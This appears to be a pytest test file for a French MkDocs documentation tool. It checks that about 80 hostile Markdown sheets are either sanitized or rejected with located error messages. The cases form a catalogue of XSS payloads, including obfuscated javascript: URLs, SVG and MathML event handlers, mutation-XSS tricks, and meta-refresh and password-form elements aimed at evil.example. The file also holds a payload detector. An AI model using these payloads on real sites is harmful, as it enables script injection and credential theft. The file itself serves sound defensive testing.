# ruff: noqa: E501  (the cases and their golden messages are read best one a line)
"""Hostile sheets, each through `atelier check` and a real `mkdocs build` (issue 11).

Every case is one file. A case either has a located message (`path:line: message`, its golden
French text) that both the checker and the build must print, or must be published safely: its
page exists, shows the case's witness text, and carries no live payload (no script that is not
the theme's, no event-handler attribute, no javascript:/vbscript:/data: address, no element
that redirects, submits or embeds). Two sites hold every case: one that builds (the safe
cases), one that stops with every located error; each is built once and checked once.
"""

from __future__ import annotations

import html
import logging
import re
import time
from dataclasses import dataclass, replace
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner
from mkdocs.exceptions import Abort

from atelier.cli import main
from conftest import Raw, build_site, community, make_site, sheet

W = "Témoin"  # every safe body says "Témoin <case>": the page shows the case's own text


def body(markup: str, name: str) -> str:
    return f"\n## Contexte\n\n{W} {name}.\n\n{markup}\n\n## Ce qui n'a pas marché\n\nTexte.\n"


@dataclass(frozen=True)
class Case:
    name: str
    text: str | bytes  # the file's content
    path: str = ""  # under the site (default practices/<name>.md)
    located: str = ""  # the golden message, "path:line: message"; empty: a safe case

    @property
    def file(self) -> str:
        return self.path or f"practices/{self.name}.md"


def safe(name: str, markup: str, **fields: object) -> Case:
    return Case(name, sheet(body=body(markup, name), **fields))


SAFE = [
    # -- URL obfuscation -------------------------------------------------------------------
    safe("url-entity-dec", "[x](&#106;avascript:alert(1))"),
    safe("url-entity-hex", "[x](&#x6A;avascript:alert(1))"),
    safe("url-entity-colon", "[x](javascript&colon;alert(1))"),
    safe("url-mixed-case", "[x](JaVaScRiPt:alert(1))"),
    safe("url-vbscript", "[x](vbscript:msgbox(1))"),
    safe("url-data-html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    safe("url-reference", "[x][r]\n\n[r]: javascript:alert(1)"),
    safe("url-reference-entity", "[x][r]\n\n[r]: &#x6a;avascript:alert(1)"),
    safe("url-image", "![x](javascript:alert(1))"),
    safe("url-image-data-svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    safe("url-autolink", "<javascript:alert(1)>"),
    safe("url-tab-entity", '<a href="java&#x09;script:alert(1)">x</a>'),
    safe("url-newline-raw", '<a href="java\nscript:alert(1)">x</a>'),
    safe("url-control-prefix", '<a href=" &#14; javascript:alert(1)">x</a>'),
    safe("url-img-newline-entity", '<img src="jav&#x0A;ascript:alert(1)" alt="x">'),
    safe("url-angle-tab", "[x](<java\tscript:alert(1)>)"),
    safe("url-comment-trick", "[x](javascript://%0aalert(1))"),
    safe("url-xlink", '<a href="#" xlink:href="javascript:alert(1)">x</a>'),
    safe("url-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    safe("url-vbscript-html", '<a href="VBScript:msgbox(1)">x</a>'),
    # -- SVG and MathML --------------------------------------------------------------------
    safe("svg-script", "<svg><script>alert(1)</script></svg>"),
    safe("svg-onload", "<svg onload=alert(1)></svg>"),
    safe("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    safe(
        "svg-foreign",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    ),
    safe("svg-animate", "<svg><animate attributeName=href values=javascript:alert(1) /></svg>"),
    safe("svg-use-data", '<svg><use href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/></svg>'),
    safe("svg-style", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    safe("math-href", '<math href="javascript:alert(1)">x</math>'),
    safe("math-mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    # -- elements that redirect, submit or embed -------------------------------------------
    safe("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'),
    safe("base", '<base href="https://evil.example/">'),
    safe(
        "form",
        '<form action="https://evil.example"><input name=p type=password>'
        "<button>OK</button></form>",
    ),
    safe("object", '<object data="https://evil.example/x.swf"></object>'),
    safe("embed", '<embed src="https://evil.example/x.swf">'),
    safe("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    safe("link-stylesheet", "<link rel=stylesheet href=https://evil.example/x.css>"),
    safe("frameset", "<frameset><frame src=javascript:alert(1)></frameset>"),
    safe("input-image", "<input type=image src=x onerror=alert(1)>"),
    safe("textarea-autofocus", "<textarea autofocus onfocus=alert(1)>x</textarea>"),
    safe("meta-inline", 'Un mot <meta http-equiv="refresh" content="0;url=//evil.example"> ici.'),
    # -- comment break-outs and mutation XSS -----------------------------------------------
    safe("comment-bang", "<!-- --!><script>alert(1)</script> -->"),
    safe("comment-short", "<!--><script>alert(1)</script>-->"),
    safe("comment-dashes", "<!-- a -- ><img src=x onerror=alert(1)> -->"),
    safe("noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    safe("template", "<template><script>alert(1)</script></template>"),
    safe("xmp", "<xmp><img src=x onerror=alert(1)></xmp>"),
    safe("textarea-mutation", "<textarea><img src=x onerror=alert(1)></textarea>"),
    safe("cdata", "<![CDATA[><script>alert(1)</script>]]>"),
    safe("split-script", "<scr<script>ipt>alert(1)</script>"),
    safe("processing", "<?xml x?><script>alert(1)</script>"),
    safe("title-tag", "<title><img src=x onerror=alert(1)></title>"),
    safe("select-template", "<select><template><img src=x onerror=alert(1)></template></select>"),
    safe("style-breakout", "<style></style><img src=x onerror=alert(1)></style>"),
    # -- link titles and attributes --------------------------------------------------------
    safe("title-double", '[x](https://a.example "t\\" onmouseover=\\"alert(1)")'),
    safe("title-single", "[x](https://a.example 'a\" onclick=\"alert(1)')"),
    safe("title-paren", '[x](https://a.example (a"><script>alert(1)</script>))'),
    safe("title-image", '![x](https://a.example/i.png "\\"><img src=x onerror=alert(1)>")'),
    safe("title-reference", '[x][r]\n\n[r]: https://a.example "\\"><svg onload=alert(1)>"'),
    safe("abbr-handler", '<abbr title="x" onmouseover=alert(1)>HTML</abbr>'),
    safe(
        "a-title-markup", '<a href="https://a.example" title=\'"><script>alert(1)</script>\'>x</a>'
    ),
    safe("heading-link", '## <a href="javascript:alert(1)">x</a> Titre piégé'),
    safe("footnote", "Note[^1].\n\n[^1]: <script>alert(1)</script>"),
    safe("admonition-title", '!!! note "<img src=x onerror=alert(1)>"\n\n    Texte.'),
    safe("deflist", "<img src=x onerror=alert(1)>\n:   définition"),
    safe(
        "td-style", '<table><tr><td style="background:url(javascript:alert(1))">x</td></tr></table>'
    ),
    safe("id-clobber", '<p id="__search">x</p> <img name="getElementById" src="x.png" alt="">'),
    # -- fields and boundaries that are allowed --------------------------------------------
    safe("field-authors-svg", "", authors=["<svg onload=alert(1)>"]),
    safe("field-next-link", "", next_time=["[x](javascript:alert(1))"]),
    safe("field-zwj-emoji", "", title="Enseigner 👩\u200d🏫 sans jugement"),
    safe("date-leap-day", "", date="2024-02-29"),
    safe("date-1900", "", date="1900-01-01"),
    safe("depth-12", "> " * 12 + "Au fond."),
    safe("list-12", "".join("  " * i + "- niveau\n" for i in range(12))),
    safe("brackets-900", "[" * 900 + "fin"),
    # -- very long lines and words ---------------------------------------------------------
    safe("long-word", "a" * 300_000),
    safe("long-line", "mot " * 70_000),
    safe("long-emphasis", "*a " * 30_000),
    safe("long-angles", "<" * 100_000),
    safe("long-url", f"[x](https://a.example/{'a' * 100_000})"),
    safe("long-backticks", "`" * 100_000),
]


def err(name: str, text: str | bytes, located: str, path: str = "") -> Case:
    return Case(name, text, path, located)


def fm(front: str, rest: str = "\n## Contexte\n\nTexte.\n") -> str:
    """A sheet whose front matter is written as given."""
    return f"---\n{front}\n---\n{rest}"


def deep_list(width: int, marker: str) -> str:
    return "".join(" " * (width * i) + marker + " x\n" for i in range(300))


ERRORS = [
    # -- nesting (thousands deep) ----------------------------------------------------------
    err("deep-quote", sheet(body="\n" + "> " * 5000 + "x\n"), ""),
    err(
        "deep-quote-lines", sheet(body="\n" + "".join(">" * i + " x\n" for i in range(1, 900))), ""
    ),
    err("deep-list", sheet(body="\n" + deep_list(2, "-")), ""),
    err("deep-ordered", sheet(body="\n" + deep_list(3, "1.")), ""),
    err(
        "deep-admonition",
        sheet(
            body="\n" + "".join("    " * i + "!!! note\n" for i in range(40)) + "    " * 40 + "x\n"
        ),
        "",
    ),
    err("deep-emphasis", sheet(body="\n" + "*" * 5000 + "a" + "*" * 5000 + "\n"), ""),
    err("deep-underscore", sheet(body="\n" + "_" * 5000 + "a" + "_" * 5000 + "\n"), ""),
    err("deep-quote-list", sheet(body="\n" + "> - " * 2000 + "x\n"), ""),
    err("brackets-open", sheet(body="\n" + "[" * 5000 + "a" * 20000 + "\n"), ""),
    err("brackets-paren", sheet(body="\n" + "[a](" * 5000 + "\n"), ""),
    err("brackets-image", sheet(body="\n" + "![" * 5000 + "\n"), ""),
    # -- invisible characters: bidi overrides, zero-width, tags ---------------------------
    err("bidi-title", sheet(title="Débat \u2066mouvant"), ""),
    err("zw-summary", sheet(summary="Un résumé\u200b piégé"), ""),
    err("wj-author", sheet(authors=["Claire\u2060Martin"]), ""),
    err(
        "tag-chars", sheet(body=body("Texte\U000e0069\U000e0067\U000e006e caché", "tag-chars")), ""
    ),
    err("alm-body", sheet(body=body("Texte \u061c arabe", "alm-body")), ""),
    err("line-separator", sheet(body=body("Une\u2028ligne", "line-separator")), ""),
    err("hangul-filler", sheet(authors=["\u3164"]), ""),
    err("bom-inside", sheet(body=body("Au\ufeffmilieu", "bom-inside")), ""),
    err("zw-heading-id", sheet(body="\n## Contexte\u200b\n\nTexte.\n"), ""),
    err("name-rlo", sheet(), "", "practices/fiche\u202egpj.md"),
    err("name-zwsp", sheet(), "", "practices/oral\u200b.md"),
    err("folder-rli", sheet(), "", "practices/lettres\u2067/x.md"),
    err("name-newline", sheet(), "", "practices/a\nb.md"),
    err("community-lrm", community(), "", "communities/cdp\u200e.md"),
    # -- dates -----------------------------------------------------------------------------
    err("date-feb-30", sheet(date="2026-02-30"), ""),
    err("date-feb-29", sheet(date="2025-02-29"), ""),
    err("date-apr-31", sheet(date="2025-04-31"), ""),
    err("date-month-0", sheet(date="2025-00-10"), ""),
    err("date-year-1", sheet(date="0001-01-01"), ""),
    err("date-1899", sheet(date="1899-12-31"), ""),
    err("date-9999", sheet(date="9999-12-31"), ""),
    err("date-year-5", sheet(date="10000-01-01"), ""),
    # -- names that collide on macOS and Windows -------------------------------------------
    err("Oral", sheet(), "", "practices/Oral.md"),
    err("oral", sheet(), "", "practices/oral.md"),
    err("folder-upper", sheet(), "", "practices/Lettres/a.md"),
    err("folder-lower", sheet(), "", "practices/lettres/b.md"),
    err("nfc", sheet(), "", "practices/\u00e9quipe/c.md"),
    err("nfd", sheet(), "", "practices/e\u0301quipe/d.md"),
    err("CDP", community(), "", "communities/CDP.md"),
    err("cdp", community(), "", "communities/cdp.md"),
    # -- front matter with thousands of keys, megabytes of text ----------------------------
    err("keys-flow", fm("{" + ", ".join(f"k{i}: v" for i in range(1000)) + "}"), ""),
    err("tags-flow", sheet(tags=Raw("[" + ", ".join("oral" for _ in range(3000)) + "]")), ""),
    err("keys-block", fm("\n".join(f"k{i}: v" for i in range(3000))), ""),
    err("title-400kb", sheet(title="a" * 400_000), ""),
    err("field-100kb", sheet(what_went_wrong=["b" * 100_000]), ""),
    err("body-600kb", sheet(body="\n## Contexte\n\n" + "c" * 600_000), ""),
    err("file-5mb", sheet(body="\n" + "d " * 2_500_000), ""),
    err("list-items", sheet(authors=[f"Auteur {i}" for i in range(150)]), ""),
]


# The golden message of each error case (its first line when it has several): the checker
# prints it, and the build stops with it.
DEEP = "le texte est imbriqué sur plus de 12 niveaux (citations « > », listes, encadrés, mises en valeur) : la page ne pourrait pas être construite ; simplifiez"
BRACKETS = "trop de crochets « [ » ou de parenthèses « ]( » restés ouverts : la page serait trop longue à construire ; fermez-les, ou écrivez « \\[ » pour un crochet seul"
CLASH = "ne diffèrent que par les majuscules ou les accents : sous macOS et Windows, ce serait le même nom ; renommez l'un des deux"
INVISIBLE_NAME = ": renommez le fichier ou le dossier"
NOT_REAL = "n'est pas une vraie date : vérifiez le jour et le mois"
TOO_MANY = (
    "plus de 100 éléments dans une même liste ou un même groupe de champs : gardez l'essentiel"
)
TO_BODY = "mettez le texte long dans le corps de la fiche"
ID_RULE = "l'identifiant d'une fiche est son nom de fichier, en minuscules sans accent ni espace ; "
GOLDEN = {
    "deep-quote": "practices/deep-quote.md:14: " + DEEP,
    "deep-quote-lines": "practices/deep-quote-lines.md:26: " + DEEP,
    "deep-list": "practices/deep-list.md:26: " + DEEP,
    "deep-ordered": "practices/deep-ordered.md:26: " + DEEP,
    "deep-admonition": "practices/deep-admonition.md:26: " + DEEP,
    "deep-emphasis": "practices/deep-emphasis.md:14: " + DEEP,
    "deep-underscore": "practices/deep-underscore.md:14: " + DEEP,
    "deep-quote-list": "practices/deep-quote-list.md:14: " + DEEP,
    "brackets-open": "practices/brackets-open.md:14: " + BRACKETS,
    "brackets-paren": "practices/brackets-paren.md:14: " + BRACKETS,
    "brackets-image": "practices/brackets-image.md:14: " + BRACKETS,
    "bidi-title": "practices/bidi-title.md:2: caractère invisible ou de contrôle interdit U+2066 (LEFT-TO-RIGHT ISOLATE) : supprimez-le",
    "zw-summary": "practices/zw-summary.md:3: caractère invisible ou de contrôle interdit U+200B (ZERO WIDTH SPACE) : supprimez-le",
    "wj-author": "practices/wj-author.md:7: caractère invisible ou de contrôle interdit U+2060 (WORD JOINER) : supprimez-le",
    "tag-chars": "practices/tag-chars.md:18: caractère invisible ou de contrôle interdit U+E0069 (TAG LATIN SMALL LETTER I) : supprimez-le",
    "alm-body": "practices/alm-body.md:18: caractère invisible ou de contrôle interdit U+061C (ARABIC LETTER MARK) : supprimez-le",
    "line-separator": "practices/line-separator.md:18: caractère invisible ou de contrôle interdit U+2028 (LINE SEPARATOR) : supprimez-le",
    "hangul-filler": "practices/hangul-filler.md:7: caractère invisible ou de contrôle interdit U+3164 (HANGUL FILLER) : supprimez-le",
    "bom-inside": "practices/bom-inside.md:18: caractère invisible ou de contrôle interdit U+FEFF (ZERO WIDTH NO-BREAK SPACE) : supprimez-le",
    "zw-heading-id": "practices/zw-heading-id.md:14: caractère invisible ou de contrôle interdit U+200B (ZERO WIDTH SPACE) : supprimez-le",
    "name-rlo": "practices/fiche<U+202E>gpj.md: ce nom contient un caractère invisible ou de contrôle interdit U+202E (RIGHT-TO-LEFT OVERRIDE) "
    + INVISIBLE_NAME,
    "name-zwsp": "practices/oral<U+200B>.md: ce nom contient un caractère invisible ou de contrôle interdit U+200B (ZERO WIDTH SPACE) "
    + INVISIBLE_NAME,
    "folder-rli": "practices/lettres<U+2067>: ce nom contient un caractère invisible ou de contrôle interdit U+2067 (RIGHT-TO-LEFT ISOLATE) "
    + INVISIBLE_NAME,
    "name-newline": "practices/a<U+000A>b.md: ce nom contient un caractère invisible ou de contrôle interdit U+000A (control) "
    + INVISIBLE_NAME,
    "community-lrm": "communities/cdp<U+200E>.md: ce nom contient un caractère invisible ou de contrôle interdit U+200E (LEFT-TO-RIGHT MARK) "
    + INVISIBLE_NAME,
    "date-feb-30": "practices/date-feb-30.md:8: date: « 2026-02-30 » " + NOT_REAL,
    "date-feb-29": "practices/date-feb-29.md:8: date: « 2025-02-29 » " + NOT_REAL,
    "date-apr-31": "practices/date-apr-31.md:8: date: « 2025-04-31 » " + NOT_REAL,
    "date-month-0": "practices/date-month-0.md:8: date: « 2025-00-10 » " + NOT_REAL,
    "date-year-1": "practices/date-year-1.md:8: date: la date 0001-01-01 est antérieure à 1900 : vérifiez l'année",
    "date-1899": "practices/date-1899.md:8: date: la date 1899-12-31 est antérieure à 1900 : vérifiez l'année",
    "date-9999": "practices/date-9999.md:8: date: la date 9999-12-31 est dans le futur : indiquez quand la pratique a eu lieu",
    "date-year-5": "practices/date-year-5.md:8: date: « 10000-01-01 » n'est pas une date au format AAAA-MM-JJ (par exemple 2026-03-14)",
    "Oral": "practices/Oral.md: nom de fichier « Oral.md » : "
    + ID_RULE
    + "renommez-le « oral.md »",
    "oral": "practices/oral.md: « practices/oral.md » et « practices/Oral.md » " + CLASH,
    "folder-upper": "practices/lettres: « practices/lettres » et « practices/Lettres » " + CLASH,
    "folder-lower": "practices/lettres: « practices/lettres » et « practices/Lettres » " + CLASH,
    "nfc": "practices/équipe: « practices/équipe » et « practices/équipe » " + CLASH,
    "nfd": "practices/équipe: « practices/équipe » et « practices/équipe » " + CLASH,
    "CDP": "communities/CDP.md: nom de fichier « CDP.md » : " + ID_RULE + "renommez-le « cdp.md »",
    "cdp": "communities/cdp.md: « communities/cdp.md » et « communities/CDP.md » " + CLASH,
    "keys-flow": "practices/keys-flow.md:2: " + TOO_MANY,
    "tags-flow": "practices/tags-flow.md:12: " + TOO_MANY,
    "keys-block": "practices/keys-block.md:1: l'en-tête fait 3000 lignes (limite : 200) : "
    + TO_BODY,
    "title-400kb": "practices/title-400kb.md:1: l'en-tête fait 391 Ko (limite : 32 Ko) : "
    + TO_BODY,
    "field-100kb": "practices/field-100kb.md:1: l'en-tête fait 98 Ko (limite : 32 Ko) : " + TO_BODY,
    "body-600kb": "practices/body-600kb.md:1: le fichier fait 586 Ko, la limite est 512 Ko : découpez la fiche ou allégez-la",
    "file-5mb": "practices/file-5mb.md:1: le fichier fait 4883 Ko, la limite est 512 Ko : découpez la fiche ou allégez-la",
    "list-items": "practices/list-items.md:7: " + TOO_MANY,
}
ERRORS = [replace(case, located=GOLDEN[case.name]) for case in ERRORS]
CASES = SAFE + ERRORS


def _site(root: Path, cases: list[Case]) -> Path:
    make_site(root, {}, {})
    for case in cases:
        target = root / case.file
        target.parent.mkdir(parents=True, exist_ok=True)
        data = case.text if isinstance(case.text, bytes) else case.text.encode("utf-8")
        target.write_bytes(data)
    return root


def _check(root: Path) -> tuple[int, str, float]:
    started = time.perf_counter()
    result = CliRunner().invoke(
        main, ["check", "--root", str(root), "--privacy", "rules"], catch_exceptions=False
    )
    return result.exit_code, result.output, time.perf_counter() - started


class _Logged(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.INFO)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(record.getMessage())


def _build(root: Path, *, serve: bool = False) -> tuple[str, float]:
    """Build the site as `mkdocs build` (or serve) does; what MkDocs logged, and the time."""
    handler = _Logged()
    logger = logging.getLogger("mkdocs")
    logger.addHandler(handler)
    started = time.perf_counter()
    try:
        build_site(root, serve=serve)
    except Abort as abort:
        handler.lines.append(str(abort))
    finally:
        logger.removeHandler(handler)
    return "\n".join(handler.lines), time.perf_counter() - started


@dataclass
class Run:
    root: Path
    check_code: int
    check_output: str
    check_time: float
    build_log: str
    build_time: float


@pytest.fixture(scope="module")
def safe_run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    root = _site(tmp_path_factory.mktemp("hostile-safe"), SAFE)
    code, output, check_time = _check(root)
    log, build_time = _build(root)
    return Run(root, code, output, check_time, log, build_time)


@pytest.fixture(scope="module")
def error_run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    root = _site(tmp_path_factory.mktemp("hostile-errors"), ERRORS)
    code, output, check_time = _check(root)
    log, build_time = _build(root)
    return Run(root, code, output, check_time, log, build_time)


# -- what a published page may carry -----------------------------------------------------------

_BAD_URL = re.compile(r"^(?:javascript|vbscript|data|livescript):", re.IGNORECASE)
_TAB_OR_NEWLINE = re.compile("[\t\n\r]")


def url_as_browsers_read(value: str) -> str:
    """An attribute's URL as the WHATWG URL parser reads it: entities decoded, leading and
    trailing controls and spaces stripped, every tab and line break removed (a space inside
    stays: `java script:` is a relative address, inert)."""
    return _TAB_OR_NEWLINE.sub("", html.unescape(value).strip("".join(map(chr, range(0x21)))))


_FORBIDDEN_TAGS = {
    "base",
    "form",
    "object",
    "embed",
    "iframe",
    "frame",
    "frameset",
    "svg",
    "math",
    "style",
    "link",
    "template",
    "noscript",
    "textarea",
    "button",
    "select",
    "xmp",
    "title",
}


class _Content(HTMLParser):
    """The start tags of a page, each knowing whether it is inside the sheet's body (the
    `atelier-body` block: the Markdown a contributor wrote, rendered and sanitized)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.depth = 0  # open elements inside the article, when in it
        self.tags: list[tuple[str, list[tuple[str, str | None]], bool]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        classes = (dict(attrs).get("class") or "").split()
        inside = self.depth > 0
        if inside:
            self.depth += tag not in _VOID
        elif tag == "div" and "atelier-body" in classes:
            self.depth = 1
        self.tags.append((tag, attrs, inside))

    def handle_endtag(self, tag: str) -> None:
        if self.depth > 0 and tag not in _VOID:
            self.depth -= 1


_VOID = {
    "area",
    "base",
    "br",
    "col",
    "embed",
    "hr",
    "img",
    "input",
    "link",
    "meta",
    "source",
    "track",
    "wbr",
}


def live_payloads(document: str) -> list[str]:
    """What in a page could run, redirect or submit: empty for a safe page."""
    parser = _Content()
    parser.feed(document)
    parser.close()
    found = []
    for tag, attrs, inside in parser.tags:
        names = {name.lower(): value or "" for name, value in attrs}
        found += [f"<{tag} {name}>" for name in names if name.startswith("on")]
        for name, value in names.items():
            if _BAD_URL.match(url_as_browsers_read(value)):
                found.append(f"<{tag} {name}={value!r}>")
        if tag == "meta" and "http-equiv" in names:
            found.append(f"<meta http-equiv={names['http-equiv']!r}>")
        if tag == "script" and not (
            "src" in names
            or names.get("type") in ("application/json", "application/ld+json")
            or not names  # the theme's inline scripts carry no attribute
        ):
            found.append(f"<script {names}>")
        if inside and (tag in _FORBIDDEN_TAGS or tag == "script" or tag == "meta"):
            found.append(f"<{tag}> in the content")
    return found


def test_the_page_checker_sees_payloads() -> None:
    """The checker itself: a page with payloads is not safe, a page without is."""
    clean = '<div class="atelier-body"><p>Texte <a href="https://a.example">x</a></p>'
    assert live_payloads(clean + "</div>") == []
    for bad in (
        '<a href="java&#x09;script:x">',
        "<img onerror=x>",
        "<form>",
        "<svg>",
        '<meta http-equiv="refresh">',
        "<script>alert(1)</script>",
        "<iframe>",
    ):
        assert live_payloads(clean + bad + "</div>"), bad


# -- the cases ---------------------------------------------------------------------------------


def test_there_are_at_least_80_cases() -> None:
    assert len(CASES) >= 80
    assert len({case.name for case in CASES}) == len(CASES)


@pytest.mark.slow
@pytest.mark.parametrize("case", SAFE, ids=lambda case: case.name)
def test_a_safe_case_is_published_without_payload(case: Case, safe_run: Run) -> None:
    page = safe_run.root / "site" / "practices" / case.name / "index.html"
    document = page.read_text(encoding="utf-8")
    assert live_payloads(document) == [], case.name
    if case.text and W in str(case.text):
        assert f"{W} {case.name}" in html.unescape(document)
    problems = [
        line
        for line in safe_run.check_output.splitlines()
        if line.startswith(case.file + ":") and "avertissement" not in line
    ]
    assert problems == []


@pytest.mark.slow
def test_the_safe_site_builds_and_checks_in_bounded_time(safe_run: Run) -> None:
    assert safe_run.check_code == 0, safe_run.check_output[-2000:]
    assert "problème(s) à corriger" not in safe_run.build_log
    assert safe_run.check_time < 30 and safe_run.build_time < 60, (
        safe_run.check_time,
        safe_run.build_time,
    )


@pytest.mark.slow
@pytest.mark.parametrize("case", ERRORS, ids=lambda case: case.name)
def test_an_error_case_is_located_by_check_and_build(case: Case, error_run: Run) -> None:
    assert case.located in error_run.check_output.splitlines()
    assert "  " + case.located in error_run.build_log.splitlines()


@pytest.mark.slow
def test_the_error_site_fails_fast_and_without_traceback(error_run: Run) -> None:
    assert error_run.check_code == 1
    assert "Traceback" not in error_run.check_output + error_run.build_log
    assert "problème(s) à corriger dans les fiches ou les communautés" in error_run.build_log
    assert not (error_run.root / "site" / "practices").exists()
    assert error_run.check_time < 30 and error_run.build_time < 30, (
        error_run.check_time,
        error_run.build_time,
    )


@pytest.mark.slow
def test_serving_the_error_site_shows_safe_problem_pages(
    error_run: Run, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """`mkdocs serve` builds a page for each refused sheet: it names the problem, and neither
    the renderer nor the page chokes on what was refused."""
    log, elapsed = _build(error_run.root, serve=True)
    assert elapsed < 60
    assert "Traceback" not in log
    pages = sorted((error_run.root / "site" / "practices").glob("*/index.html"))
    assert len(pages) > 20
    for page in pages:
        document = page.read_text(encoding="utf-8")
        assert live_payloads(document) == [], page
        assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b]", document), page
    shown = html.unescape((error_run.root / "site/practices/deep-quote/index.html").read_text())
    assert "imbriqué sur plus de 12 niveaux" in shown
